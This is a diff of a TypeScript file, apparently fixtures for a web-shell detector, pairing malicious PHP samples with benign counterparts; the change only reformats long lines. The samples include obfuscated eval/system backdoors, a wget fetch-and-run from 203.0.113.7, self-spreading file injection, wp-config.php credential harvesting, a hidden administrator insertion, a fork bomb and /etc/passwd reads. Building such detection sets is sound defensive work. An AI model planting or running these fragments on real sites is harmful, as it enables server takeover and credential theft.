@@ -10,8 +10,12 @@ export const INDIRECT: readonly Technique[] = [
       php(`foreach (array('_GET', '_POST') as $from) foreach ($$from as $key => $value) $$key = $value;\n$do($with);`),
       php(`$s = $_SERVER; $u = parse_url($s['REQUEST_URI']); parse_str($u['query'], $q); passthru($q['run']);`),
       php(`define('JOB', $_REQUEST['job']); eval(JOB);`),
-      php(`$part = array_map('base64_decode', explode('-', $_COOKIE['id']));\ncall_user_func(\n  $part[0],\n  $part[1]\n);`),
-      php(`class Later { function __construct($f, $v) { $f($v); } }\n$r = new ReflectionClass('Later'); $r->newInstance($_GET['f'], $_GET['v']);`),
+      php(
+        `$part = array_map('base64_decode', explode('-', $_COOKIE['id']));\ncall_user_func(\n  $part[0],\n  $part[1]\n);`,
+      ),
+      php(
+        `class Later { function __construct($f, $v) { $f($v); } }\n$r = new ReflectionClass('Later'); $r->newInstance($_GET['f'], $_GET['v']);`,
+      ),
       php(`$f = substr_replace('syxx', 'stem', 2); $f($_GET['c']);`),
       php(`$f = sprintf('%s%s', 'pass', 'thru'); $f($_REQUEST['c']);`),
       php(`$f = preg_replace('/[0-9]/', '', 's1y2s3t4e5m'); $f($_REQUEST['c']);`),
@@ -54,9 +58,13 @@ export const INDIRECT: readonly Technique[] = [
       php(`ob_start(function ($page) { return shell_exec($page); }); echo $_GET['c']; ob_end_flush();`),
       php(`$run = fn($text) => eval($text); $run($_POST['p']);`),
       php(`try { throw new Exception($_GET['c']); } catch (Exception $e) { assert($e->getMessage()); }`),
-      php(`class Any { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$any = new Any; $any->passthru($_POST['c']);`),
+      php(
+        `class Any { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$any = new Any; $any->passthru($_POST['c']);`,
+      ),
       php(`$jobs = array('a' => 'shell_exec'); foreach ($_GET as $k => $v) echo $jobs[$k]($v);`),
-      php(`class Box { static $n = array('r' => '${base64('system')}'); static function __callStatic($k, $a) { $f = base64_decode(self::$n[$k]); return $f($a[0]); } }\nBox::r(getenv('HTTP_X_RUN'));`),
+      php(
+        `class Box { static $n = array('r' => '${base64('system')}'); static function __callStatic($k, $a) { $f = base64_decode(self::$n[$k]); return $f($a[0]); } }\nBox::r(getenv('HTTP_X_RUN'));`,
+      ),
     ],
     honest: [
       php(`ob_start(function ($page) { return str_replace('http:', 'https:', $page); }); get_header();`),
@@ -72,13 +80,19 @@ export const INDIRECT: readonly Technique[] = [
       php(`$at = 'https://example.net/next.txt'; while ($text = file_get_contents($at)) { @eval($text); sleep(9); }`),
       php(`$order = trim(fgets(fopen('http://example.net/order', 'r'))); if ($order) echo shell_exec($order);`),
       php(`exec('cd /tmp; wget -q http://203.0.113.7/k; chmod 755 k; ./k');`),
-      php(`$c = curl_init($_REQUEST['from']); $f = fopen(basename($_REQUEST['from']), 'wb'); curl_setopt($c, CURLOPT_FILE, $f); curl_exec($c);`),
+      php(
+        `$c = curl_init($_REQUEST['from']); $f = fopen(basename($_REQUEST['from']), 'wb'); curl_setopt($c, CURLOPT_FILE, $f); curl_exec($c);`,
+      ),
       php(`eval('?>' . file_get_contents('zip://banner.jpg#inner'));`),
       php(`include 'phar://banner.jpg/inner.php';`),
-      php(`function open_it($t) { $t = base64_decode($t); for ($i = 0; $i < strlen($t); $i++) $t[$i] = chr(ord($t[$i]) - 3); return $t; }\neval(open_it('${base64('hydo+%hfkr#4>%,>').repeat(4)}'));`),
+      php(
+        `function open_it($t) { $t = base64_decode($t); for ($i = 0; $i < strlen($t); $i++) $t[$i] = chr(ord($t[$i]) - 3); return $t; }\neval(open_it('${base64('hydo+%hfkr#4>%,>').repeat(4)}'));`,
+      ),
     ],
     honest: [
-      php(`$list = file_get_contents('https://api.example.com/list.json'); $items = json_decode($list, true); echo count($items);`),
+      php(
+        `$list = file_get_contents('https://api.example.com/list.json'); $items = json_decode($list, true); echo count($items);`,
+      ),
       php(`exec('git rev-parse HEAD', $lines); echo $lines[0];`),
       php(`$phar = new Phar('tool.phar'); echo count($phar);`),
       php(`$logo = file_get_contents(__DIR__ . '/logo.svg'); echo $logo;`),
@@ -88,13 +102,23 @@ export const INDIRECT: readonly Technique[] = [
     name: 'spreading',
     severity: 'suspicious',
     samples: [
-      php(`foreach (glob('*/*.php') as $f) { $old = file_get_contents($f); file_put_contents($f, "<?php @include '/tmp/q'; ?>" . $old); }`),
-      php(`foreach (array('images', 'css') as $d) { $n = $d . '/' . uniqid() . '.php'; file_put_contents($n, $body); touch($n, 1400000000); }`),
+      php(
+        `foreach (glob('*/*.php') as $f) { $old = file_get_contents($f); file_put_contents($f, "<?php @include '/tmp/q'; ?>" . $old); }`,
+      ),
+      php(
+        `foreach (array('images', 'css') as $d) { $n = $d . '/' . uniqid() . '.php'; file_put_contents($n, $body); touch($n, 1400000000); }`,
+      ),
       php(`fputs(fopen('stat.php', 'w'), '<?php eval($_POST["s"]); ?>');`),
-      php(`mysql_query("SELECT '<?php system(\\$_GET[1]); ?>' INTO OUTFILE '/srv/www/s.php'"); fopen('done', 'w'); $t = '<?php system($_GET[1]); ?>';`),
-      php(`$h = opendir('/home'); while ($u = readdir($h)) { symlink("/home/$u/public_html/wp-config.php", "s/$u.txt"); symlink("/home/$u/public_html/configuration.php", "s/$u-j.txt"); }`),
+      php(
+        `mysql_query("SELECT '<?php system(\\$_GET[1]); ?>' INTO OUTFILE '/srv/www/s.php'"); fopen('done', 'w'); $t = '<?php system($_GET[1]); ?>';`,
+      ),
+      php(
+        `$h = opendir('/home'); while ($u = readdir($h)) { symlink("/home/$u/public_html/wp-config.php", "s/$u.txt"); symlink("/home/$u/public_html/configuration.php", "s/$u-j.txt"); }`,
+      ),
       php(`foreach (glob('/srv/*/htdocs/wp-config.php') as $f) echo file_get_contents($f);`),
-      php(`$db->query("INSERT INTO wp_users (user_login) VALUES ('backup')"); $db->query("INSERT INTO wp_usermeta VALUES (7, 'wp_capabilities', 'administrator')");`),
+      php(
+        `$db->query("INSERT INTO wp_users (user_login) VALUES ('backup')"); $db->query("INSERT INTO wp_usermeta VALUES (7, 'wp_capabilities', 'administrator')");`,
+      ),
       php(`while (1) pcntl_fork();`),
       php(`echo shell_exec('id'), shell_exec('uname -a'), shell_exec('cat /etc/passwd');`),
     ],
@@ -111,7 +135,9 @@ export const INDIRECT: readonly Technique[] = [
     samples: [
       php(`$O0OO0O = 'a'; $O00O0O = 'b'; $OO0O0O = strrev('metsys'); $O0O00O = $_GET; $OO0O0O($O0O00O['c']);`),
       php(`$l1lIl1 = $_POST; $lIl1lI = 'c'; $Il1Il1 = $l1lIl1[$lIl1lI]; $l1l1lI = 'assert'; $l1l1lI($Il1Il1);`),
-      php(`$_="{";$__=$_^"<";$___=$_^">";$____=$_^"/";$_____="_".$__.$___.$____;$______=$$_____;$______[_]($______[__]);$_=$__.$___;$__=$_.$_;`),
+      php(
+        `$_="{";$__=$_^"<";$___=$_^">";$____=$_^"/";$_____="_".$__.$___.$____;$______=$$_____;$______[_]($______[__]);$_=$__.$___;$__=$_.$_;`,
+      ),
       php(`\${'_'.$k}['a'](\${'_'.$k}['b']);`),
     ],
     honest: [
